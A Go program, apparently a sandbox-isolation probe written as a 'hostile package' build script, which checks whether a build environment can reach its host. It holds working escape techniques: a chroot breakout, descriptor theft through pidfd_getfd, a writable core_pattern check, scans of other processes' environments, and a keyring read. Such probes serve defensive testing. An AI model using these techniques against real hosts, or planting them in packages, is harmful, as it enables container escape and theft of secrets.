package main

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// A target is what a hostile package looks for. Empty or zero fields are not tried.
type target struct {
	file    string // of the host, readable only by its root
	word    string // in that file, and in the environment of the build's caller
	disk    uint64 // device number of a disk of the host
	process int    // process id on the host
	key     string // in the session keyring of the build's caller
	address string // of a listening service on the host
}

// setUp is the script of a hostile package. It tries to reach the host from where its image is
// built, and prints what it has reached. It ends in another root than it began in.
func setUp(args []string) error {
	if len(args) != 6 {
		return errors.New("it takes a file, a word, a disk, a process, a key and an address")
	}
	t := target{file: args[0], word: args[1], key: args[4], address: args[5]}
	if _, err := fmt.Sscan(args[2]+" "+args[3], &t.disk, &t.process); err != nil {
		return err
	}
	dir, err := os.MkdirTemp("", "set-up-")
	if err != nil {
		return err
	}
	if err := os.Chdir(dir); err != nil {
		return err
	}
	for _, try := range []struct {
		name  string
		reach func() bool
	}{
		{"ids", t.ids}, {"seccomp", t.seccomp}, {"disk", t.makeDisk}, {"devices", t.mountDevices}, {"kernel", t.kernel},
		{"process", t.signal}, {"service", t.connect}, {"environment", t.environment}, {"keyring", t.keyring},
		{"descriptors", t.descriptors}, {"roots", t.roots}, {"chroot", t.leave},
	} {
		if try.reach() {
			fmt.Println("reached:", try.name)
		}
	}
	fmt.Println("tried all")
	return nil
}

// ids reports whether root is that of the host. The host's root has as many ids as there are.
func (t target) ids() bool {
	text, err := os.ReadFile("/proc/self/uid_map")
	fields := strings.Fields(string(text))
	return err == nil && len(fields) >= 3 && (fields[2] == "4294967295" || len(fields) > 3)
}

// seccomp reports whether all system calls are allowed.
func (t target) seccomp() bool {
	text, err := os.ReadFile("/proc/self/status")
	return err == nil && bytes.Contains(text, []byte("\nSeccomp:\t0\n"))
}

// makeDisk makes a device file of the disk.
func (t target) makeDisk() bool { return unix.Mknod("disk", unix.S_IFBLK|0o600, int(t.disk)) == nil }

// mountDevices mounts the host's own device files, where the disk is found.
func (t target) mountDevices() bool {
	if os.Mkdir("devices", 0o700) != nil || unix.Mount("x", "devices", "devtmpfs", 0, "") != nil {
		return false
	}
	defer unix.Unmount("devices", unix.MNT_DETACH) //nolint:errcheck // the attack is over
	found, err := filepath.Glob("devices/*")
	if err != nil {
		return false
	}
	for _, name := range found {
		var st unix.Stat_t
		if unix.Stat(name, &st) == nil && st.Mode&unix.S_IFMT == unix.S_IFBLK && st.Rdev == t.disk {
			return true
		}
	}
	return false
}

// kernel mounts a writable proc(5), and opens the file that names the program which the host's
// kernel runs as root when a program crashes.
func (t target) kernel() bool {
	const setting = "sys/kernel/core_pattern"
	dir := "/proc"
	if os.Mkdir("proc", 0o700) == nil && unix.Mount("x", "proc", "proc", 0, "") == nil {
		defer unix.Unmount("proc", unix.MNT_DETACH) //nolint:errcheck // the attack is over
		dir = "proc"
	}
	f, err := os.OpenFile(filepath.Join(dir, setting), os.O_WRONLY, 0)
	if err != nil {
		return false
	}
	f.Close()
	return true
}

// signal reports whether a process of the host could be killed.
func (t target) signal() bool { return t.process > 0 && syscall.Kill(t.process, 0) == nil }

// connect connects to a service of the host.
func (t target) connect() bool {
	c, err := net.DialTimeout("tcp", t.address, time.Second)
	if err != nil {
		return false
	}
	defer c.Close() //nolint:errcheck // nothing is said there
	return true
}

// environment looks for the caller's environment in all processes.
func (t target) environment() bool {
	return anywhere("/proc/[0-9]*/environ", func(name string) bool {
		text, err := os.ReadFile(name)
		return err == nil && bytes.Contains(text, []byte(t.word))
	})
}

// keyring reads a key of the session in which it runs.
func (t target) keyring() bool {
	id, err := unix.KeyctlSearch(unix.KEY_SPEC_SESSION_KEYRING, "user", t.key, 0)
	if err != nil {
		return false
	}
	_, err = unix.KeyctlBuffer(unix.KEYCTL_READ, id, make([]byte, 64), 0)
	return err == nil
}

// descriptors looks for the file, or a directory above it, among the open files of all processes.
// It copies descriptors from other processes, since opening the file again through /proc would
// check its mode.
func (t target) descriptors() bool {
	return anywhere("/proc/[0-9]*/fd/*", func(name string) bool {
		var pid, fd int
		if _, err := fmt.Sscanf(name, "/proc/%d/fd/%d", &pid, &fd); err != nil {
			return false
		}
		process, err := unix.PidfdOpen(pid, 0)
		if err != nil {
			return false
		}
		defer unix.Close(process) //nolint:errcheck // only read
		taken, err := unix.PidfdGetfd(process, fd, 0)
		if err != nil {
			return false
		}
		f := os.NewFile(uintptr(taken), name)
		defer f.Close() //nolint:errcheck // only read
		text := make([]byte, len(t.word))
		_, err = f.ReadAt(text, 0)
		return err == nil && string(text) == t.word || t.holds(filepath.Join(name, filepath.Base(t.file)))
	})
}

// roots looks for the file in the roots and working directories of all processes.
func (t target) roots() bool {
	return t.holds(t.file) || anywhere("/proc/[0-9]*/root", t.below) || anywhere("/proc/[0-9]*/cwd", t.below)
}

// leave escapes from its root by entering a second one that does not contain its working directory.
func (t target) leave() bool {
	if os.Mkdir("root", 0o700) != nil || unix.Chroot("root") != nil {
		return false
	}
	for range 100 {
		if os.Chdir("..") != nil {
			return false
		}
	}
	return unix.Chroot(".") == nil && t.holds(t.file)
}

func (t target) below(dir string) bool { return t.holds(filepath.Join(dir, t.file)) }

// holds reports whether a regular file is the one that is looked for.
func (t target) holds(name string) bool {
	info, err := os.Stat(name)
	if err != nil || !info.Mode().IsRegular() {
		return false
	}
	f, err := os.Open(name)
	if err != nil {
		return false
	}
	defer f.Close()
	text, err := io.ReadAll(io.LimitReader(f, 1<<10))
	return err == nil && string(text) == t.word
}

// anywhere reports whether one of the files that match a pattern is the one that is looked for.
func anywhere(pattern string, found func(name string) bool) bool {
	names, err := filepath.Glob(pattern)
	if err != nil {
		return false
	}
	for _, name := range names {
		if found(name) {
			return true
		}
	}
	return false
}
